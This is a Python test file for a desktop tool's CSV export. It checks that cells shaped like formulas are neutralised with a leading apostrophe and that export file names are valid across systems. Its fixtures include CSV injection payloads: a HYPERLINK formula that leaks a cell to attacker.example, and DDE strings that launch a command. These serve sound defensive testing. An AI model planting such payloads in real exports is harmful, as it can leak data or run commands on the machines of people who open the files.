"""Exported cells a spreadsheet would run as a formula get a leading apostrophe (OWASP's
"CSV Injection" defence); ordinary text, including inner hyphens and at-signs, is untouched."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from cli_helpers import RunCli, campaign_toml, write_campaign

from proactive_desktop.core.export import export_file_stem, neutralise_formula
from proactive_desktop.sandbox import SandboxServer

FORMULA_NAMES = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturn",
)


@pytest.mark.parametrize("cell", FORMULA_NAMES)
def test_a_formula_like_cell_gets_a_leading_apostrophe(cell: str) -> None:
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["", "Jean-Luc Picard", "jean@example.com", "山田 太郎", "'quoted", "42", "a=b"]
)
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise_formula(cell) == cell


def test_export_neutralises_a_customer_named_like_a_formula(
    run_cli: RunCli, sandbox: SandboxServer, tmp_path: Path
) -> None:
    premium = [
        user
        for user in sandbox.store.users
        if user.get("role") == "end-user"
        and (user.get("user_fields") or {}).get("plan") == "premium"
        and not user.get("suspended")
    ]
    renamed = dict(zip((user["id"] for user in premium), FORMULA_NAMES, strict=False))
    assert len(renamed) == len(FORMULA_NAMES)
    for user in premium:
        if user["id"] in renamed:
            user["name"] = renamed[user["id"]]
    campaign = write_campaign(tmp_path, campaign_toml(sandbox.url, "Formulas"))
    sent = run_cli("send", str(campaign))
    assert sent.code == 0, sent.stderr

    target = tmp_path / "formulas.csv"
    assert run_cli("export", "Formulas", "--csv", str(target)).code == 0
    with target.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    names = {int(row["user_id"]): row["name"] for row in rows if row["user_id"]}
    for user_id, name in renamed.items():
        assert names[user_id] == "'" + name
    untouched = [name for user_id, name in names.items() if user_id not in renamed]
    assert untouched
    assert all(not name.startswith("'") for name in untouched)


@pytest.mark.parametrize(
    ("tag", "stem"),
    [
        ("renewal_november", "renewal_november"),
        ("キャンペーン", "キャンペーン"),
        ("con", "campaign-con"),
        ("LPT1", "campaign-LPT1"),
        ("a:b|c", "a_b_c"),
        ("", "campaign"),
        ("x.", "x"),
    ],
)
def test_the_suggested_export_name_is_valid_on_every_system(tag: str, stem: str) -> None:
    assert export_file_stem(tag) == stem
